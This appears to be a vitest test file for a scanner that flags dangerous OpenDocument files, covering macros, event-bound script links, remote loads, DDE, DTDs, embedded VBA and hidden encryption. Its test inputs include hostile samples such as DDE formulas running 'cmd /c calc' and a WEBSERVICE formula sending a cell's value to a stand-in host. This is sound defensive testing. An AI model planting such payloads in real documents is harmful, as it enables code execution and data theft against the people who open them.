import { expect, test } from "vitest";
import { inspect } from "../../../src/inspect.ts";
import { bufferSource } from "../../../src/source.ts";
import { heldBy } from "../../samples/held.ts";
import { png, program } from "../../samples/images.ts";
import {
  basicLibrary,
  basicProcedure,
  eventListener,
  flatBasic,
  flatOdf,
  formulaCell,
  type OdfSample,
  odf,
} from "../../samples/odf.ts";
import { writeOle2 } from "../../samples/ole2.ts";
import { inUtf16 } from "../../samples/opc.ts";
import { openingModule, vbaStreams } from "../../samples/vba.ts";
import type { ZipMember } from "../../samples/zip.ts";

/** A sample as a package and as a flat document. */
const bothForms = (sample: OdfSample) => [odf(sample), flatOdf(sample)];

test("OpenDocument files are told apart by the type that their entry or their manifest declares, or by their content.", async () => {
  const samples = [
    [odf(), "application/vnd.oasis.opendocument.text"],
    [odf({ kind: "spreadsheet" }), "application/vnd.oasis.opendocument.spreadsheet"],
    [odf({ kind: "presentation-template" }), "application/vnd.oasis.opendocument.presentation-template"],
    [odf({ kind: "graphics", withoutMimetype: true }), "application/vnd.oasis.opendocument.graphics"],
    [odf({ withoutMimetype: true, withoutManifest: true }), "application/vnd.oasis.opendocument.text"],
    [odf({ arrange: (members) => members.toReversed() }), "application/vnd.oasis.opendocument.text"],
    [flatOdf(), "application/x-flat-opendocument+xml"],
  ] as const;
  for (const [content, type] of samples) {
    const { format, findings } = await inspect(bufferSource(content));
    expect(format.type).toBe(type);
    expect(findings.filter(({ severity }) => severity !== "low")).toEqual([]);
  }
});

test("A macro holds the document whatever the file is called, in packages and flat documents.", async () => {
  const files = basicLibrary(basicProcedure);
  for (const content of [
    odf({ files }),
    odf({ files, listed: [] }),
    odf({ files, withoutMimetype: true, withoutManifest: true }),
    odf({ files, arrange: inUtf16(/Module1/) }),
    odf({ files: [{ name: "Scripts/python/a.py", content: "def a(): pass" }] }),
    flatOdf({ head: flatBasic(basicProcedure) }),
  ])
    expect(await heldBy(content, "letter.docx")).toContain("odf-macro");
  expect(await heldBy(odf({ files: basicLibrary("") }))).toEqual([]);
  expect(await heldBy(flatOdf({ head: flatBasic("REM a") }))).toEqual([]);
});

test("A macro that an event, a link or a field runs holds the document.", async () => {
  const address = "vnd.sun.star.script:a.py$a?language=Python&amp;location=share";
  const hostile = [
    { head: eventListener(address) },
    { head: eventListener("macro:///Standard.Module1.Main") },
    { body: `<text:a xlink:href="${address}">a</text:a>` },
    { body: '<text:a xlink:href="MACRO:Standard.Module1.Main">a</text:a>' },
    { body: '<text:a xlink:href="&#9;vnd.sun.star.&#10;script:a">a</text:a>' },
    { body: '<text:a xlink:href="vnd.libreoffice.command:a">a</text:a>' },
    { body: '<form:button xlink:href=".uno:ScriptOrganizer"/>' },
    {
      body: '<x:script xmlns:x="urn:oasis:names:tc:opendocument:xmlns:text:1.0"/><text:a xlink:href="macro:a"/>',
    },
  ];
  for (const sample of hostile)
    for (const content of bothForms(sample)) expect(await heldBy(content)).toEqual(["odf-event-macro"]);
  for (const content of bothForms({ body: '<text:a xlink:href="https://example.com/">a</text:a>' }))
    expect(await heldBy(content)).toEqual([]);
});

test("Content that is loaded from a server holds the document; links and content of the package pass.", async () => {
  const loads = (address: string) => [
    `<draw:image xlink:href="${address}"/>`,
    `<draw:object xlink:href="${address}"/>`,
    `<draw:object-ole xlink:href="${address}"/>`,
    `<draw:plugin xlink:href="${address}"/>`,
    `<text:section><text:section-source xlink:href="${address}"/></text:section>`,
    `<table:cell-range-source xlink:href="${address}"/>`,
    `<form:image form:image-data="${address}"/>`.replace("form:image ", "draw:control "),
  ];
  for (const address of [
    "http://example.com/a",
    "HTTPS://example.com/a",
    "ftp://example.com/a",
    "file://server/share/a",
    "\\\\server\\share\\a",
    "//server/share/a",
    "vnd.sun.star.pkg://http:%2F%2Fexample.com%2Fa/b",
    "smb://server/a",
  ])
    for (const body of loads(address))
      for (const content of bothForms({ body }))
        expect(await heldBy(content), body).toEqual(["odf-remote-content"]);
  for (const address of [
    "Pictures/a.png",
    "#Pictures/a.png",
    "./Object 1",
    "../a.odt",
    "file:///C:/a.png",
    "file:///home/a.png",
  ])
    for (const body of loads(address))
      for (const content of bothForms({ body })) expect(await heldBy(content), body).toEqual([]);
});

test("DDE and formulas that call out hold a spreadsheet; arithmetic and rows of matrices do not.", async () => {
  const samples = [
    ['of:=DDE("soffice";"a";"b")', "odf-dde"],
    ['of:= dde ("cmd";"/c calc";"a")', "odf-dde"],
    ["msoxl:=cmd|'/c calc'!A0", "odf-dde"],
    ['of:=COM.MICROSOFT.WEBSERVICE("http://example.com?"&[.A1])', "odf-calling-formula"],
    ['of:=HYPERLINK("\\\\server\\share";"a")', "odf-calling-formula"],
    ['of:=HYPERLINK("vnd.sun.star.script:a";"a")', "odf-calling-formula"],
    ["of:=SUM({1;2|3;4})", undefined],
    ['of:=HYPERLINK("https://example.com/";"a")', undefined],
    ['of:="DDE(1) WEBSERVICE(1)"', undefined],
    ["of:=-5", undefined],
  ] as const;
  for (const [formula, rule] of samples)
    for (const content of bothForms({ kind: "spreadsheet", body: formulaCell(formula) }))
      expect(await heldBy(content), formula).toEqual(rule === undefined ? [] : [rule]);
  const source =
    '<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="a"/>';
  for (const content of bothForms({ body: source })) expect(await heldBy(content)).toEqual(["odf-dde"]);
});

test("A document type declaration in any part holds the document, except those that old office programs write.", async () => {
  const entity = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>';
  for (const name of [
    "meta.xml",
    "META-INF/documentsignatures.xml",
    "Object 1/content.xml",
    "Basic/script-lc.xml",
  ])
    expect(await heldBy(odf({ files: [{ name, content: entity }] }))).toEqual(["odf-dtd"]);
  const known = (address: string) =>
    `<!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "${address}">`;
  expect(await heldBy(odf({ doctype: known("office.dtd") }))).toEqual([]);
  expect(await heldBy(odf({ doctype: known("http://example.com/office.dtd") }))).toEqual(["odf-dtd"]);
});

test("Embedded objects and pictures are inspected as documents of their own.", async () => {
  const macros = writeOle2({ streams: { ...vbaStreams(openingModule), WordDocument: Buffer.alloc(4096) } });
  const word = writeOle2({ streams: { "\x01CompObj": "a" } });
  const embedded = (content: Buffer) => [
    odf({ files: [{ name: "Object 1", content }] }),
    flatOdf({
      body: `<draw:object-ole><office:binary-data>${content.toString("base64")}</office:binary-data></draw:object-ole>`,
    }),
  ];
  for (const content of embedded(macros)) expect(await heldBy(content)).toContain("vba-code");
  for (const content of [...embedded(word), ...embedded(png())]) expect(await heldBy(content)).toEqual([]);
  const picture = { name: "Pictures/a.png", content: program() };
  expect(await heldBy(odf({ files: [picture] }))).toContain("executable-content");
});

test("Encrypted documents are held, also if only one part is encrypted.", async () => {
  expect(await heldBy(odf({ encryption: '<manifest:encryption-data manifest:checksum="a"/>' }))).toEqual([
    "odf-encrypted",
  ]);
});

test("A part that is encrypted although the manifest does not say so holds the document.", async () => {
  const noise = Buffer.from(Array.from({ length: 500 }, (_, index) => (index * 197 + 13) % 256));
  const arrange = (members: ZipMember[]) =>
    members.map((member) => (member.name === "content.xml" ? { ...member, content: noise } : member));
  for (const sample of [{}, { withoutManifest: true }])
    expect(await heldBy(odf({ ...sample, arrange }), "letter.odt")).toEqual(["odf-malformed"]);
});

test("A package that is also another format is inspected as OpenDocument too.", async () => {
  const types = { name: "[Content_Types].xml", content: "<Types/>" };
  const files = [types, ...basicLibrary(basicProcedure)];
  expect(await heldBy(odf({ files }))).toContain("odf-macro");
});
